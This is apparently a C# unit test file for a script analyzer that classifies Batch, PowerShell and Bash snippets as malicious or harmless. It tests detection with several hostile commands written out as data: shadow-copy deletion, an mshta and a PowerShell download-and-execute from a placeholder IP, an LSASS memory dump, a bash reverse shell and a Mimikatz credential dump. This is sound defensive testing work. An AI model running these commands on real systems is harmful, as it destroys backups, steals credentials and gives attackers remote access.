namespace Redoubt.Scripts.Tests.Judging;

public sealed class JudgeTests
{
    [Theory]
    [InlineData(ScriptLanguage.Batch, "vssadmin delete shadows /all /quiet")]
    [InlineData(ScriptLanguage.Batch, "mshta http://198.18.2.3/a.hta")]
    [InlineData(ScriptLanguage.Batch, "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full")]
    [InlineData(ScriptLanguage.PowerShell, "IEX (New-Object Net.WebClient).DownloadString('http://198.18.2.3/a.ps1')")]
    [InlineData(ScriptLanguage.Bash, "bash -i >& /dev/tcp/198.18.2.3/4444 0>&1")]
    public void Attacks_are_malicious(ScriptLanguage language, string text) => ScriptAnalyzer.Analyze(text, new ScriptHints(language)).Verdict.Label.ShouldBe(VerdictLabel.Malicious);

    [Theory]
    [InlineData(ScriptLanguage.Batch, "ipconfig /all\nnet user\nnet use x: \\\\files\\home")]
    [InlineData(ScriptLanguage.Bash, "apt-get update && apt-get install -y nginx && systemctl enable nginx")]
    [InlineData(ScriptLanguage.PowerShell, "Get-Service | Where-Object Status -eq 'Stopped' | Start-Service")]
    public void Administration_is_not(ScriptLanguage language, string text)
    {
        var verdict = ScriptAnalyzer.Analyze(text, new ScriptHints(language)).Verdict;
        verdict.Label.ShouldBe(VerdictLabel.NothingHarmfulFound);
        verdict.Score.ShouldBe(Math.Max(0, verdict.Reasons.Sum(reason => reason.Points)));
    }

    [Fact]
    public void A_function_that_nobody_calls_is_defined_and_not_run()
    {
        var report = ScriptAnalyzer.Analyze("function Get-Thing { Invoke-Mimikatz -DumpCreds }", new ScriptHints(ScriptLanguage.PowerShell));
        report.Findings.ShouldAllBe(finding => finding.Defined);
        report.Verdict.Label.ShouldNotBe(VerdictLabel.Malicious);
    }
}
